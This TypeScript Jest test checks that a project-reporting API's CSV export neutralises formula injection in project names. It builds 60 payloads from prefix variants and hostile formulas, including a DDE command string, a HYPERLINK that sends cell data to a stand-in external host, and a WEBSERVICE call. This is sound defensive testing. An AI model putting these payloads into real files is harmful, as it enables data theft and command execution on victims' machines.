import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
import type { Project } from '@stegvis/contracts/projects/project';
import type { ReportRun } from '@stegvis/contracts/report-runs/report-run';
import type { Client } from '../client.js';
import { type DemoApi, demoApi } from '../demo-api.js';

let demo: DemoApi;
let administrator: Client;
let leader: Client;
let run: ReportRun;

beforeAll(async () => {
  demo = await demoApi();
  [administrator, leader] = await Promise.all([demo.as('administrator'), demo.as('project-leader')]);
  run = (await leader.get<ReportRun[]>('/api/report-runs?_end=100')).body.find(({ state }) => state !== 'requested') as ReportRun;
}, 180_000);
afterAll(() => demo?.stop());

/** What a spreadsheet would calculate, or ask another program for, if it read it as a formula. */
const calculations = [
  '1+1',
  'SUM(A1:A9)',
  'HYPERLINK("https://elsewhere.example/?"&A1,"Öppna")',
  `cmd|' /C calc'!A0`,
  'WEBSERVICE("https://elsewhere.example")',
];
const beginnings = ['=', '+', '-', '@', '＝', '＋', '－', '＠', '  =', '\u00a0=', '\u3000+', '"='];
const payloads = beginnings.flatMap((beginning) => calculations.map((calculation) => `${beginning}${calculation}`));

/** The cells of quoted CSV, as a spreadsheet reads them. */
const cellsOf = (csv: string): string[] => [...csv.matchAll(/"((?:[^"]|"")*)"(?:;|\r\n)/g)].map(([, cell = '']) => cell.replaceAll('""', '"'));

describe('abuse case 17: a name that is a formula', () => {
  it('is stored as it was written, and is text in the file, whatever it begins with', async () => {
    const path = `/api/projects/${run.projectId}`;
    const calculated: string[] = [];
    const changed: string[] = [];
    for (const name of payloads) {
      const { body: project } = await administrator.get<Project>(path);
      const saved = await administrator.put<Project>(path, { ...project, name });
      expect([name, saved.status]).toEqual([name, 200]);
      const cells = cellsOf((await leader.get<string>(`/api/report-runs/${run.id}/export/csv`)).body);
      calculated.push(...cells.filter((cell) => /^\s*[=+\-@＝＋－＠]/.test(cell) || /^[\t\r\n]/.test(cell)));
      // Beside the apostrophe that shows it as text, not a character is lost.
      if (!cells.some((cell) => cell.replace(/^'/, '') === saved.body.name)) changed.push(saved.body.name);
    }
    expect(payloads).toHaveLength(60);
    expect({ calculated, changed }).toEqual({ calculated: [], changed: [] });
  });
});
